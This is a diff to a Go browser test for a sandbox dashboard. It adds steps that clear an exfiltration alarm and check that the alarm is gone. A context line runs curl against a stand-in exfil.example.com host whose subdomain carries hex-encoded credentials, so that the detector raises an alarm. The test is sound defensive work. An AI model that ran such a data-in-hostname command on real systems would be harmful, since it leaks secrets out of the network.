@@ -370,6 +370,8 @@ func TestBrowser(t *testing.T) {
 	// A host name carrying data raises an alarm: the sandbox's card is marked, live.
 	d.inside("sh", "-c", "curl -s -o /dev/null https://4a6f686e20446f652070617373776f72643a2068756e74657232.exfil.example.com/")
 	b.waitFor("the alarm's mark", `!!document.querySelector('[data-sandbox="repo"] .card-head .alarm') && document.querySelector('[data-sandbox="repo"] .alarm-note').textContent.includes('paddock alarms repo')`)
+	b.tap(`[data-sandbox="repo"] .clear-alarms`)
+	b.waitFor("the alarm cleared", `!document.querySelector('[data-sandbox="repo"] .alarm')`)
 
 	// The terminal: the session's tmux; what is typed comes back, and the key bar's ↑
 	// brings back the last command.
